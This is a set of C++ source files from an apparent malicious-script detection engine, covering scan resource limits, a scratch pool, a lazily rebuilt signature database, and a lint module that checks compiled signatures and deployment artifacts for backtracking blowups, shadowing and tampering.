// serves every worker from recycled scratches — the lock is held only for
// the list pop/push, never during a scan.
class ScratchPool {
 public:
  class Handle {
   public:
    Handle(Handle&& other) noexcept
        : pool_(other.pool_), scratch_(std::move(other.scratch_)) {
      other.pool_ = nullptr;
    }
    Handle& operator=(Handle&&) = delete;
    Handle(const Handle&) = delete;
    Handle& operator=(const Handle&) = delete;
    ~Handle() {
      if (pool_ != nullptr) pool_->release(std::move(scratch_));
    }

    Scratch& operator*() const { return *scratch_; }
    Scratch* operator->() const { return scratch_.get(); }

   private:
    friend class ScratchPool;
    Handle(ScratchPool* pool, std::unique_ptr<Scratch> scratch)
        : pool_(pool), scratch_(std::move(scratch)) {}
    ScratchPool* pool_;
    std::unique_ptr<Scratch> scratch_;
  };

  Handle acquire() {
    {
      std::lock_guard<std::mutex> lock(mu_);
      if (!free_.empty()) {
        std::unique_ptr<Scratch> s = std::move(free_.back());
        free_.pop_back();
        return Handle(this, std::move(s));
      }
    }
    return Handle(this, std::make_unique<Scratch>());
  }

 private:
  void release(std::unique_ptr<Scratch> scratch) {
    std::lock_guard<std::mutex> lock(mu_);
    free_.push_back(std::move(scratch));
  }

  std::mutex mu_;
  std::vector<std::unique_ptr<Scratch>> free_;
};

// --------------------------- lazy database -----------------------------

// Invalidation-aware holder for a Database owned by a mutable signature
// container (match::Scanner, av::ManualAvEngine): the owner calls
// invalidate() whenever its set changes and ensure() from const read
// paths. Double-checked locking keeps the fast path to one acquire load;
// concurrent readers are safe once built.
class LazyDatabase {
 public:
  void invalidate() { ready_.store(false, std::memory_order_release); }

  // Returns the up-to-date database, rebuilding it first if stale:
  // `build()` must return the freshly compiled Database.
  template <typename BuildFn>
  const Database& ensure(BuildFn&& build) const {
    if (!ready_.load(std::memory_order_acquire)) {
      std::lock_guard<std::mutex> lock(mu_);
      if (!ready_.load(std::memory_order_relaxed)) {
        db_ = build();
        ready_.store(true, std::memory_order_release);
      }
    }
    return db_;
  }

 private:
  mutable std::mutex mu_;
  mutable std::atomic<bool> ready_{false};
  mutable Database db_;
};

}  // namespace kizzle::engine
