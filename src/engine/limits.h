// Resource governance for scanning: every scan bounded, every breach
// reported as data instead of a hang or an exception.
//
// The scan path processes attacker-controlled bytes on workers that serve
// millions of users; a pathological input (gigabyte script, catastrophic
// VM confirmation, deeply nested packer) must cost a bounded amount of
// work and then *return*, with the caller told exactly which bound bit.
// ScanLimits is that contract: it rides on the engine::Scratch (per
// worker, like every other piece of scan state), applies to every
// scan()/confirm()/stream on that scratch until changed, and is checked
// only at cheap boundaries — a chunk feed, a candidate confirmation, a
// stage transition — so the default (everything unlimited) costs a few
// predictable branches on the hot path and zero allocations.
//
// Outcomes surface on engine::ScanOutcome as a ScanStatus plus the stage
// that hit the limit; the deployment channels translate them into their
// per-channel degradation policy (core/deploy.h DegradePolicy).
#pragma once

#include <chrono>
#include <cstddef>
#include <cstdint>

namespace kizzle::engine {

// How a scan ended. Ordered by severity: when several bounds trip in one
// scan, the outcome reports the most severe (largest) one.
enum class ScanStatus : std::uint8_t {
  kComplete,         // every candidate fully confirmed over the full input
  kTruncated,        // input beyond max_input_bytes was never scanned
  kBudgetExhausted,  // >=1 candidate skipped on the VM step budget
  kDeadlineExpired,  // the wall-clock deadline cut confirmation short
};

// The pipeline stage at which a limit took effect (kNone for kComplete).
enum class ScanStage : std::uint8_t {
  kNone,
  kInput,      // text intake / stream feed (truncation)
  kPrefilter,  // first-stage literal pass
  kConfirm,    // candidate confirmation
};

// One worker's resource envelope. Zero always means "unlimited" — a
// default-constructed ScanLimits imposes no bound and adds no measurable
// cost, which is what keeps BM_EngineScanManySignatures at its ungoverned
// baseline.
struct ScanLimits {
  // Hard cap on scanned bytes per document/stream. Bytes past the cap are
  // dropped (never fed to the prefilter, never confirmed against) and the
  // scan reports kTruncated with the dropped count.
  std::size_t max_input_bytes = 0;

  // Cap on normalized-text growth relative to the raw input, checked by
  // the channels after normalization/unpacking (normalized output of the
  // lexer never exceeds its input, but unpacker charcode expansion can
  // balloon; the unpack layer enforces its own unpack::UnpackLimits
  // derived from these fields). 0 = unlimited.
  double max_expansion_ratio = 0.0;

  // Unpacking bounds, carried here so one struct configures a whole
  // channel: maximum onion layers and total decoded bytes across layers
  // (unpack::UnpackLimits mirrors these; 0 keeps that layer's default;
  // core::unpack_limits_of is the bridge).
  int max_unpack_layers = 0;
  std::size_t max_unpack_total_bytes = 0;

  // Per-candidate backtracking-VM step budget. 0 = the pattern default
  // (match::Pattern's built-in budget); smaller values tighten it. The
  // compiled literal/literal-dominated confirm tiers cannot blow up and
  // ignore this.
  std::uint64_t vm_step_budget = 0;

  // Wall-clock budget for one scan (or one stream's whole life, armed at
  // open_stream()). Checked at chunk/candidate granularity — the scan
  // returns kDeadlineExpired at the next boundary after expiry, it does
  // not preempt a single candidate mid-confirmation.
  std::chrono::microseconds wall_budget{0};

  // Absolute override for wall_budget: when set (non-epoch), this exact
  // instant is the deadline regardless of wall_budget. Lets callers share
  // one deadline across several scans, and lets tests inject an
  // already-expired deadline deterministically.
  std::chrono::steady_clock::time_point deadline{};

  bool has_deadline() const {
    return deadline != std::chrono::steady_clock::time_point{} ||
           wall_budget.count() > 0;
  }

  // The deadline a scan starting `now` runs under (epoch = none).
  std::chrono::steady_clock::time_point effective_deadline(
      std::chrono::steady_clock::time_point now) const {
    if (deadline != std::chrono::steady_clock::time_point{}) return deadline;
    if (wall_budget.count() > 0) return now + wall_budget;
    return {};
  }
};

inline const char* scan_status_name(ScanStatus s) {
  switch (s) {
    case ScanStatus::kComplete:
      return "complete";
    case ScanStatus::kTruncated:
      return "truncated";
    case ScanStatus::kBudgetExhausted:
      return "budget-exhausted";
    case ScanStatus::kDeadlineExpired:
      return "deadline-expired";
  }
  return "?";
}

inline const char* scan_stage_name(ScanStage s) {
  switch (s) {
    case ScanStage::kNone:
      return "none";
    case ScanStage::kInput:
      return "input";
    case ScanStage::kPrefilter:
      return "prefilter";
    case ScanStage::kConfirm:
      return "confirm";
  }
  return "?";
}

}  // namespace kizzle::engine
