// Orchestration of the four analysis families plus report rendering.
// The per-program walk lives in program.cpp (analyze::detail).

#include "analyze/analyze.h"

#include <algorithm>
#include <cmath>
#include <ostream>
#include <sstream>
#include <unordered_map>

#include "core/sigdb.h"
#include "match/program.h"
#include "support/hash.h"
#include "match/teddy.h"

namespace kizzle::analyze {

namespace {

// The pattern VM's built-in per-attempt step budget (vm.cpp); mirrored
// here because the analyzer checks bounds against it when the caller
// leaves ScanLimits-style budget 0 (= pattern default).
constexpr std::uint64_t kDefaultVmBudget = 1u << 22;

std::string quote(std::string_view s, std::size_t max_len = 48) {
  std::string out = "\"";
  for (std::size_t i = 0; i < s.size() && i < max_len; ++i) {
    const char c = s[i];
    if (c == '"' || c == '\\') out += '\\';
    if (static_cast<unsigned char>(c) < 0x20) {
      out += "\\x??";  // control bytes never occur in patterns; keep short
      continue;
    }
    out += c;
  }
  out += "\"";
  if (s.size() > max_len) out += "…";
  return out;
}

void add_finding(Report& report, Check check, Severity severity,
                 std::size_t sig_index, std::string_view name,
                 std::string message) {
  report.findings.push_back(Finding{check, severity, sig_index,
                                    std::string(name), std::move(message)});
}

// The guaranteed-contained literal of a signature: a string every match
// must contain. Used by the shadowing analysis.
std::string_view guaranteed_literal(const match::Pattern& p) {
  const std::string& lit = p.required_literal();
  if (!lit.empty()) return lit;
  const match::detail::Program& prog = p.compiled_program();
  if (prog.tier != match::ConfirmTier::kRegex) return prog.confirm.anchor;
  return {};
}

// ---------------- per-signature checks (families 1 + 2) ----------------

void analyze_signature(std::size_t index, std::string_view name,
                       const match::Pattern& p, const Options& opts,
                       Report& report) {
  const match::detail::Program& prog = p.compiled_program();
  const detail::ProgramFacts facts =
      detail::program_facts(prog, opts.reference_text_bytes);
  const std::uint64_t budget =
      opts.vm_step_budget != 0 ? opts.vm_step_budget : kDefaultVmBudget;

  if (facts.ambiguous_nesting) {
    add_finding(report, Check::kBacktrackingBomb, Severity::kError, index,
                name,
                "catastrophic backtracking: " + facts.ambiguous_detail +
                    " — a non-matching sample can cost ~2^len VM steps");
  } else if (facts.loops > 0 &&
             facts.log2_step_bound >
                 std::log2(static_cast<double>(budget))) {
    std::ostringstream msg;
    msg << "worst-case VM attempt ~2^"
        << static_cast<int>(facts.log2_step_bound + 0.5) << " steps at "
        << opts.reference_text_bytes << "-byte samples exceeds the step "
        << "budget of " << budget
        << " — candidates may be dropped as budget-exhausted";
    add_finding(report, Check::kVmStepBound, Severity::kWarning, index, name,
                msg.str());
  }

  if (facts.unreachable > 0) {
    add_finding(report, Check::kUnreachableCode, Severity::kInfo, index, name,
                std::to_string(facts.unreachable) +
                    " compiled instruction(s) unreachable from the entry "
                    "point (compiler artifact; wasted program space)");
  }

  if (facts.literal_alternation) {
    add_finding(report, Check::kTierDowngrade, Severity::kInfo, index, name,
                "runs on the backtracking-VM tier but is an alternation of "
                "literals — eligible for a compiled confirm tier "
                "(per-branch anchored compare)");
  }

  if (facts.dead_normalized) {
    add_finding(report, Check::kDeadSignature, Severity::kError, index, name,
                "dead signature: every accepting path requires a byte "
                "normalization strips (whitespace/quote), so it can never "
                "match normalized scan input");
    return;  // literal-quality findings are noise on a dead signature
  }

  const std::string& lit = p.required_literal();
  if (lit.empty()) {
    add_finding(report, Check::kWeakLiteral, Severity::kWarning, index, name,
                "no usable required literal: the signature sits on the "
                "prefilter fallback list and is confirmed against every "
                "scanned sample");
    return;
  }
  // Rarest-window quality: the best (lowest expected hit rate) K-byte
  // window the prefilter could anchor this literal on. This mirrors the
  // planner's own scoring, against the same byte prior.
  const std::size_t k = std::min<std::size_t>(4, lit.size());
  double best = 1.0;
  for (std::size_t at = 0; at + k <= lit.size(); ++at) {
    double rate = 1.0;
    for (std::size_t i = 0; i < k; ++i) {
      rate *= match::teddy::byte_prior_probability(
          static_cast<unsigned char>(lit[at + i]));
    }
    best = std::min(best, rate);
  }
  if (best > opts.common_window_threshold) {
    std::ostringstream msg;
    msg << "prefilter-hostile literal " << quote(lit)
        << ": its rarest " << k << "-byte window still hits ~1 in "
        << static_cast<long long>(1.0 / best)
        << " scanned bytes under the normalized-JS byte prior";
    add_finding(report, Check::kCommonLiteralWindow, Severity::kWarning,
                index, name, msg.str());
  }
}

// ---------------- cross-signature checks (family 3) ----------------

struct SigRef {
  std::string_view name;
  const match::Pattern* pattern = nullptr;
};

// Duplicates and shadowing over `sigs`; `first_checked` is the first
// index findings are reported for (the candidate gate passes the
// database + candidate and only wants findings about the candidate).
void analyze_cross(const std::vector<SigRef>& sigs, std::size_t first_checked,
                   Report& report) {
  std::unordered_map<std::string_view, std::size_t> first_by_source;
  for (std::size_t j = 0; j < sigs.size(); ++j) {
    const auto [it, inserted] =
        first_by_source.emplace(sigs[j].pattern->source(), j);
    if (!inserted && j >= first_checked) {
      add_finding(report, Check::kDuplicateSignature, Severity::kWarning, j,
                  sigs[j].name,
                  "identical pattern source already issued as \"" +
                      std::string(sigs[it->second].name) + "\" (#" +
                      std::to_string(it->second) + ")");
    }
  }

  // Shadowing: an earlier signature that *is* one literal (kLiteral tier
  // matches any text containing its anchor) whose anchor is contained in
  // a later signature's guaranteed literal. Every sample the later
  // signature matches contains that literal, hence the earlier one — so
  // under first-match semantics the later signature never reports.
  for (std::size_t j = first_checked; j < sigs.size(); ++j) {
    const std::string_view t = guaranteed_literal(*sigs[j].pattern);
    if (t.empty()) continue;
    for (std::size_t i = 0; i < j; ++i) {
      const match::detail::Program& pi = sigs[i].pattern->compiled_program();
      if (pi.tier != match::ConfirmTier::kLiteral) continue;
      if (sigs[i].pattern->source() == sigs[j].pattern->source()) {
        continue;  // reported as a duplicate, not a shadow
      }
      const std::string& anchor = pi.confirm.anchor;
      if (anchor.empty() || t.find(anchor) == std::string_view::npos) {
        continue;
      }
      add_finding(report, Check::kShadowedSignature, Severity::kError, j,
                  sigs[j].name,
                  "shadowed: every match contains " + quote(t) +
                      ", which contains pure-literal signature \"" +
                      std::string(sigs[i].name) + "\" (#" +
                      std::to_string(i) + ", " + quote(anchor) +
                      ") — the earlier signature always matches first");
      break;  // one shadowing witness per signature
    }
  }
}

// ---------------- prefilter shard density (family 2) ----------------

void analyze_shards(const match::LiteralPrefilter& pf, const Options& opts,
                    Report& report) {
  const match::teddy::PlanSet* plans = pf.teddy_plans();
  if (plans == nullptr) return;
  const auto& shards = plans->shards();
  for (std::size_t s = 0; s < shards.size(); ++s) {
    const double d = shards[s].hit_density_estimate();
    if (d <= opts.dense_shard_threshold) continue;
    std::ostringstream msg;
    msg << "dense shard " << s << " (K=" << shards[s].prefix_len() << ", "
        << shards[s].literal_count() << " literals): expected ~" << d
        << " first-stage hits/byte (threshold "
        << opts.dense_shard_threshold << ")";
    if (pf.teddy_dense()) {
      msg << "; scans route to the automaton walk";
    } else {
      msg << "; the SIMD first stage is confirm-bound here";
    }
    add_finding(report, Check::kDenseShard, Severity::kWarning, kNoSig, "",
                msg.str());
  }
}

std::vector<SigRef> refs_of(std::span<const engine::Database::Entry> entries) {
  std::vector<SigRef> refs;
  refs.reserve(entries.size());
  for (const auto& e : entries) refs.push_back(SigRef{e.name, &e.pattern});
  return refs;
}

// ---------------- artifact verification (family 4) ----------------

// Rebuilds the prefilter the artifact *should* contain from its embedded
// signature source and compares it section by section against the shipped
// one. One finding listing every divergent section (the test contract is
// one finding per diagnostic class per artifact).
void verify_artifact_tables(const std::vector<engine::Database::Entry>& entries,
                            const match::LiteralPrefilter& shipped,
                            Report& report) {
  match::LiteralPrefilter rebuilt;
  for (std::size_t i = 0; i < entries.size(); ++i) {
    rebuilt.add(i, entries[i].pattern.required_literal());
  }
  rebuilt.build();

  std::vector<std::string> bad;
  const auto regs_a = shipped.registrations();
  const auto regs_b = rebuilt.registrations();
  if (regs_a.size() != regs_b.size()) {
    bad.push_back("registration count (" + std::to_string(regs_a.size()) +
                  " shipped vs " + std::to_string(regs_b.size()) +
                  " recompiled)");
  } else {
    for (std::size_t i = 0; i < regs_a.size(); ++i) {
      if (regs_a[i].literal != regs_b[i].literal ||
          regs_a[i].id != regs_b[i].id) {
        bad.push_back("registration " + std::to_string(i) + " (shipped " +
                      quote(regs_a[i].literal) + " for id " +
                      std::to_string(regs_a[i].id) + ", recompiled " +
                      quote(regs_b[i].literal) + " for id " +
                      std::to_string(regs_b[i].id) + ")");
        break;
      }
    }
  }
  // TableView sections are spans (possibly borrowed straight from a
  // mapped artifact on the shipped side) — compare contents, not storage.
  const auto ta = shipped.tables();
  const auto tb = rebuilt.tables();
  const auto differs = [](auto a, auto b) {
    return !std::equal(a.begin(), a.end(), b.begin(), b.end());
  };
  if (ta.alpha_size != tb.alpha_size || *ta.alpha != *tb.alpha) {
    bad.push_back("reduced alphabet");
  }
  if (differs(ta.next, tb.next)) bad.push_back("goto table");
  if (differs(ta.out_link, tb.out_link)) bad.push_back("output links");
  if (differs(ta.out_begin, tb.out_begin) || differs(ta.out_end, tb.out_end) ||
      differs(ta.out_ids, tb.out_ids)) {
    bad.push_back("output sets");
  }
  if (differs(ta.fallback, tb.fallback)) bad.push_back("fallback list");
  if (ta.n_ids != tb.n_ids || ta.id_limit != tb.id_limit) {
    bad.push_back("id space");
  }
  if (bad.empty()) return;

  std::string sections = bad[0];
  for (std::size_t i = 1; i < bad.size(); ++i) sections += "; " + bad[i];
  add_finding(report, Check::kArtifactMismatch, Severity::kError, kNoSig, "",
              "shipped prefilter disagrees with a recompilation of the "
              "embedded signature source: " +
                  sections +
                  " — compiler-version skew or tampered tables (the bundle "
                  "checksum cannot catch either)");
}

}  // namespace

// ------------------------------ entry points ------------------------------

Report analyze_database(const engine::Database& db, const Options& opts) {
  Report report;
  const auto entries = db.entries();
  for (std::size_t i = 0; i < entries.size(); ++i) {
    analyze_signature(i, entries[i].name, entries[i].pattern, opts, report);
  }
  analyze_cross(refs_of(entries), 0, report);
  analyze_shards(db.prefilter(), opts, report);
  return report;
}

Report analyze_candidate(const engine::Database& db, std::string_view name,
                         const match::Pattern& candidate,
                         const Options& opts) {
  Report report;
  const auto entries = db.entries();
  analyze_signature(entries.size(), name, candidate, opts, report);
  std::vector<SigRef> refs = refs_of(entries);
  refs.push_back(SigRef{name, &candidate});
  analyze_cross(refs, entries.size(), report);
  return report;
}

Report analyze_artifact(std::istream& is, const Options& opts) {
  core::BundleArtifact art = core::load_artifact(is, /*validate_patterns=*/false);
  Report report;
  std::vector<engine::Database::Entry> entries;
  entries.reserve(art.signatures.size());
  for (std::size_t i = 0; i < art.signatures.size(); ++i) {
    const core::DeployedSignature& sig = art.signatures[i];
    try {
      entries.push_back(engine::Database::Entry{
          sig.name, sig.family, match::Pattern::compile(sig.pattern)});
    } catch (const match::PatternError& e) {
      // The embedded source does not compile with this binary's compiler:
      // the shipped tables cannot be its compilation.
      add_finding(report, Check::kArtifactMismatch, Severity::kError, i,
                  sig.name,
                  std::string("embedded pattern does not compile: ") +
                      e.what());
    }
  }
  for (std::size_t i = 0; i < entries.size(); ++i) {
    analyze_signature(i, entries[i].name, entries[i].pattern, opts, report);
  }
  analyze_cross(refs_of(entries), 0, report);
  analyze_shards(art.prefilter, opts, report);
  if (opts.verify_artifact && entries.size() == art.signatures.size()) {
    verify_artifact_tables(entries, art.prefilter, report);
  }
  return report;
}

Report analyze_delta(const engine::Database& base,
                     const core::DeltaArtifact& delta, const Options& opts) {
  Report report;
  bool lineage_ok = true;
  if (delta.base_fingerprint != base.fingerprint()) {
    lineage_ok = false;
    add_finding(report, Check::kDeltaLineage, Severity::kError, kNoSig, "",
                "delta base fingerprint does not match the live database — "
                "wrong lineage or out-of-order apply");
  }
  for (const std::uint64_t idx : delta.retired) {
    if (idx >= base.size()) {
      lineage_ok = false;
      add_finding(report, Check::kDeltaLineage, Severity::kError, kNoSig, "",
                  "retired index " + std::to_string(idx) +
                      " is out of range for a base of " +
                      std::to_string(base.size()) + " signatures");
    } else if (base.entry_retired(static_cast<std::size_t>(idx))) {
      lineage_ok = false;
      add_finding(report, Check::kDeltaLineage, Severity::kError,
                  static_cast<std::size_t>(idx),
                  base.name(static_cast<std::size_t>(idx)),
                  "retired index " + std::to_string(idx) +
                      " is already tombstoned in the base");
    }
  }

  // Each added signature gets the candidate treatment: compile, program +
  // literal analysis, and cross checks against the base entries.
  const auto base_entries = base.entries();
  std::vector<SigRef> refs = refs_of(base_entries);
  const std::size_t first_checked = refs.size();
  std::vector<match::Pattern> added;
  added.reserve(delta.added.size());
  bool compiles = true;
  for (std::size_t j = 0; j < delta.added.size(); ++j) {
    const core::DeployedSignature& sig = delta.added[j];
    const std::size_t index = base.size() + j;
    try {
      added.push_back(match::Pattern::compile(sig.pattern));
    } catch (const match::PatternError& e) {
      compiles = false;
      add_finding(report, Check::kDeltaLineage, Severity::kError, index,
                  sig.name,
                  std::string("added pattern does not compile: ") + e.what());
      continue;
    }
    analyze_signature(index, sig.name, added.back(), opts, report);
    refs.push_back(SigRef{sig.name, &added.back()});
  }
  analyze_cross(refs, first_checked, report);

  // Only when the pieces are individually coherent is the declared result
  // fingerprint checkable: recompute what applying the delta would
  // produce (base identities + added identities, tombstone union) and
  // compare. This catches a tampered/miscomputed result_fingerprint at
  // the gate instead of as an extend() refusal mid-swap.
  if (lineage_ok && compiles) {
    std::uint64_t sum = core::kFingerprintBasis;
    const std::uint64_t n = base.size() + delta.added.size();
    checksum_update(sum, &n, sizeof n);
    for (const auto& e : base_entries) {
      core::fingerprint_mix(sum, e.name, e.family, e.pattern.source());
    }
    for (const core::DeployedSignature& sig : delta.added) {
      core::fingerprint_mix(sum, sig.name, sig.family, sig.pattern);
    }
    std::vector<std::uint64_t> tombstones;
    for (std::size_t i = 0; i < base.size(); ++i) {
      if (base.entry_retired(i)) tombstones.push_back(i);
    }
    tombstones.insert(tombstones.end(), delta.retired.begin(),
                      delta.retired.end());
    std::sort(tombstones.begin(), tombstones.end());
    core::fingerprint_retire(sum, tombstones);
    if (sum != delta.result_fingerprint) {
      add_finding(report, Check::kDeltaLineage, Severity::kError, kNoSig, "",
                  "declared result fingerprint disagrees with the set this "
                  "delta actually produces when applied");
    }
  }
  return report;
}

// ------------------------------ rendering ------------------------------

std::size_t Report::count(Severity s) const {
  return static_cast<std::size_t>(
      std::count_if(findings.begin(), findings.end(),
                    [s](const Finding& f) { return f.severity == s; }));
}

std::size_t Report::count(Check c) const {
  return static_cast<std::size_t>(
      std::count_if(findings.begin(), findings.end(),
                    [c](const Finding& f) { return f.check == c; }));
}

const char* check_name(Check c) {
  switch (c) {
    case Check::kBacktrackingBomb:
      return "backtracking-bomb";
    case Check::kVmStepBound:
      return "vm-step-bound";
    case Check::kUnreachableCode:
      return "unreachable-code";
    case Check::kTierDowngrade:
      return "tier-downgrade";
    case Check::kWeakLiteral:
      return "weak-literal";
    case Check::kCommonLiteralWindow:
      return "common-literal-window";
    case Check::kDenseShard:
      return "dense-shard";
    case Check::kShadowedSignature:
      return "shadowed-signature";
    case Check::kDuplicateSignature:
      return "duplicate-signature";
    case Check::kDeadSignature:
      return "dead-signature";
    case Check::kArtifactMismatch:
      return "artifact-mismatch";
    case Check::kDeltaLineage:
      return "delta-lineage";
  }
  return "?";
}

const char* severity_name(Severity s) {
  switch (s) {
    case Severity::kInfo:
      return "info";
    case Severity::kWarning:
      return "warning";
    case Severity::kError:
      return "error";
  }
  return "?";
}

void write_text(std::ostream& os, const Report& report) {
  for (const Finding& f : report.findings) {
    os << severity_name(f.severity) << ": [" << check_name(f.check) << "]";
    if (f.sig_index != kNoSig) {
      os << " #" << f.sig_index;
      if (!f.signature.empty()) os << " \"" << f.signature << "\"";
    }
    os << ": " << f.message << "\n";
  }
  if (report.findings.empty()) {
    os << "clean: no findings\n";
  } else {
    os << report.findings.size() << " finding(s): " << report.errors()
       << " error(s), " << report.warnings() << " warning(s), "
       << report.count(Severity::kInfo) << " info\n";
  }
}

namespace {

void json_string(std::ostream& os, std::string_view s) {
  os << '"';
  for (const char c : s) {
    const auto u = static_cast<unsigned char>(c);
    switch (c) {
      case '"':
        os << "\\\"";
        break;
      case '\\':
        os << "\\\\";
        break;
      case '\n':
        os << "\\n";
        break;
      case '\t':
        os << "\\t";
        break;
      case '\r':
        os << "\\r";
        break;
      default:
        if (u < 0x20) {
          const char hex[] = "0123456789abcdef";
          os << "\\u00" << hex[u >> 4] << hex[u & 15];
        } else {
          os << c;
        }
    }
  }
  os << '"';
}

}  // namespace

void write_json(std::ostream& os, const Report& report) {
  os << "{\"findings\":[";
  for (std::size_t i = 0; i < report.findings.size(); ++i) {
    const Finding& f = report.findings[i];
    if (i > 0) os << ",";
    os << "{\"check\":";
    json_string(os, check_name(f.check));
    os << ",\"severity\":";
    json_string(os, severity_name(f.severity));
    if (f.sig_index != kNoSig) {
      os << ",\"sig_index\":" << f.sig_index;
    }
    os << ",\"signature\":";
    json_string(os, f.signature);
    os << ",\"message\":";
    json_string(os, f.message);
    os << "}";
  }
  os << "],\"errors\":" << report.errors()
     << ",\"warnings\":" << report.warnings()
     << ",\"info\":" << report.count(Severity::kInfo)
     << ",\"clean\":" << (report.clean() ? "true" : "false") << "}\n";
}

}  // namespace kizzle::analyze
