// kizzle lint — static analysis over compiled signature databases.
//
// Kizzle's premise is that signatures are compiled and re-released faster
// than kits mutate (paper §I), which cuts the human out of the release
// loop: a bad signature ships to every worker before anyone reads it. This
// module is the pre-deployment gate that reads it instead. It operates on
// the *compiled* artifacts — match::detail::Program instruction graphs,
// teddy::PlanSet shuffle masks, LiteralPrefilter tables — not on regex
// source, so what it certifies is what the scan path actually executes.
//
// Four analysis families, one Report:
//
//   VM program analysis (program.cpp) — walks each pattern's compiled
//     Instr graph. Unbounded repetitions are the only construct that emits
//     back-edges (pattern.cpp compile_rep), so loops are found as
//     back-edges of a DFS; nested loops whose consume byte-sets overlap
//     are the catastrophic-backtracking shape ((a+)+ and friends) and are
//     flagged as errors. A worst-case step bound per anchored attempt —
//     |code| × len^depth, 2^len once ambiguous — is checked against the
//     VM step budget (engine::ScanLimits.vm_step_budget, default
//     pattern budget when 0). The same walk finds unreachable
//     instructions and kRegex-tier programs shaped as alternations of
//     literals, which could compile to a cheaper ConfirmTier.
//
//   Prefilter quality analysis — scores each signature's required literal
//     against the normalized-JS byte prior (teddy::byte_prior): a missing
//     literal means the pattern confirms against every sample (fallback
//     list), a rarest window made of common bytes means the first stage
//     fires constantly. Per-shard hit-density estimates
//     (teddy::Plan::hit_density_estimate) surface shards past the
//     dense-route threshold.
//
//   Cross-signature analysis — duplicate sources, shadowed signatures
//     (an earlier pure-literal signature whose anchor is contained in a
//     later signature's guaranteed literal matches strictly earlier on
//     every sample the later one matches), and dead signatures whose
//     every accepting path requires a byte normalize_raw strips (the
//     scan path only ever sees normalized text).
//
//   Artifact verification (analyze_artifact) — diverse-double-compile in
//     miniature (Wheeler): the `.kpf`'s embedded signature source is
//     recompiled with this binary's compiler and the resulting prefilter
//     is structurally compared — registrations, reduced alphabet, goto/
//     output tables, fallback list — against the shipped tables. The
//     bundle checksum only proves the bytes arrived intact; this proves
//     they are the compilation of the source they claim to be, catching
//     compiler-version skew and post-build tampering alike.
//
// Surfaces: `kizzle lint <artifact|sigdb>` (text or --json, nonzero exit
// on error-severity findings, for CI gating) and the KizzlePipeline
// pre-deployment gate (PipelineConfig::lint_deployments), which refuses
// to deploy a candidate signature that lints with errors.
#pragma once

#include <cstddef>
#include <cstdint>
#include <iosfwd>
#include <string>
#include <string_view>
#include <vector>

#include "engine/engine.h"
#include "match/prefilter.h"

namespace kizzle::analyze {

enum class Severity : std::uint8_t { kInfo, kWarning, kError };

enum class Check : std::uint8_t {
  kBacktrackingBomb,     // nested unbounded loops over overlapping bytes
  kVmStepBound,          // worst-case VM steps exceed the step budget
  kUnreachableCode,      // instructions no path from entry reaches
  kTierDowngrade,        // kRegex tier but cheaper-tier shape
  kWeakLiteral,          // no usable required literal (fallback confirm)
  kCommonLiteralWindow,  // rarest prefilter window made of common bytes
  kDenseShard,           // plan-set shard past the dense-route threshold
  kShadowedSignature,    // an earlier pure-literal signature always wins
  kDuplicateSignature,   // identical pattern source issued twice
  kDeadSignature,        // requires bytes normalized text can never hold
  kArtifactMismatch,     // shipped tables != recompiled embedded source
  kDeltaLineage,         // delta fingerprints/indices disagree with base
};

// Findings not tied to one signature (dense shards, artifact sections)
// carry this sig_index.
inline constexpr std::size_t kNoSig = static_cast<std::size_t>(-1);

struct Finding {
  Check check = Check::kArtifactMismatch;
  Severity severity = Severity::kInfo;
  std::size_t sig_index = kNoSig;  // index into the analyzed set
  std::string signature;           // its name; empty for database-wide
  std::string message;
};

struct Options {
  // Sample length the worst-case VM step bound is evaluated at (the
  // analyzer has no real text; normalized kit samples run tens of KiB).
  std::size_t reference_text_bytes = 64 * 1024;
  // Per-candidate VM step budget to check bounds against; 0 = the
  // pattern VM's built-in default (engine::ScanLimits semantics).
  std::uint64_t vm_step_budget = 0;
  // Per-shard expected-hits-per-byte level reported as a dense shard.
  double dense_shard_threshold = match::kDenseRouteHitsPerByte;
  // A required literal whose *best* window still has this expected
  // per-byte hit rate under the byte prior is reported as common.
  double common_window_threshold = 1e-3;
  // Recompile an artifact's embedded source and structurally compare the
  // prefilter tables (analyze_artifact only).
  bool verify_artifact = true;
};

struct Report {
  std::vector<Finding> findings;

  std::size_t count(Severity s) const;
  std::size_t count(Check c) const;
  std::size_t errors() const { return count(Severity::kError); }
  std::size_t warnings() const { return count(Severity::kWarning); }
  // "Lints clean" for gating purposes: no error-severity findings.
  bool clean() const { return errors() == 0; }
};

// Lints a compiled database: every signature's program, literal quality,
// cross-signature relations, and the built prefilter's shard densities.
Report analyze_database(const engine::Database& db, const Options& opts = {});

// Lints one candidate signature against an already-deployed database —
// the KizzlePipeline gate. Covers the candidate's program, literal
// quality, and its relation (duplicate/shadowed/dead) to existing
// entries; database-wide findings about `db` itself are not repeated.
Report analyze_candidate(const engine::Database& db, std::string_view name,
                         const match::Pattern& candidate,
                         const Options& opts = {});

// Lints a `.kpf` bundle: loads it, lints the embedded database, and — per
// Options::verify_artifact — recompiles the embedded source and compares
// the shipped prefilter tables section by section. Malformed bundles
// throw the loader's kizzle::Error taxonomy (they are not findings: a
// bundle that fails to parse never reaches deployment anyway).
Report analyze_artifact(std::istream& is, const Options& opts = {});

// Lints a `KZDELTA` delta artifact against the live base it would be
// applied to — the serve hot-swap gate for incremental deploys. Lineage
// problems are kDeltaLineage errors: a base fingerprint that does not
// match `base.fingerprint()` (wrong lineage / out-of-order apply),
// retired indices out of range or already tombstoned, an added pattern
// that does not compile, and a declared result fingerprint that disagrees
// with what applying the delta would actually produce. Each added
// signature additionally gets the full per-signature and cross-signature
// analysis against the base's entries, exactly as if it were a pipeline
// candidate. Database-wide findings about `base` itself are not repeated.
Report analyze_delta(const engine::Database& base,
                     const core::DeltaArtifact& delta,
                     const Options& opts = {});

// Human-readable report: one `severity: [check] signature: message` line
// per finding plus a summary line.
void write_text(std::ostream& os, const Report& report);
// Machine-readable report for CI: a single JSON object with a findings
// array and severity totals.
void write_json(std::ostream& os, const Report& report);

const char* check_name(Check c);
const char* severity_name(Severity s);

namespace detail {

// Facts the VM program walk derives for one compiled pattern; unit of the
// program-analysis family, exposed for tests.
struct ProgramFacts {
  std::size_t loops = 0;      // back-edge loops (unbounded repetitions)
  int max_loop_depth = 0;     // deepest loop nesting
  bool ambiguous_nesting = false;  // nested loops, overlapping consume sets
  std::string ambiguous_detail;
  std::size_t unreachable = 0;     // instructions DFS from entry misses
  bool literal_alternation = false;  // alternation-of-literals shape
  bool dead_normalized = false;  // accept unreachable on normalized bytes
  // log2 of the worst-case VM steps for one anchored attempt at
  // `reference_len` text bytes.
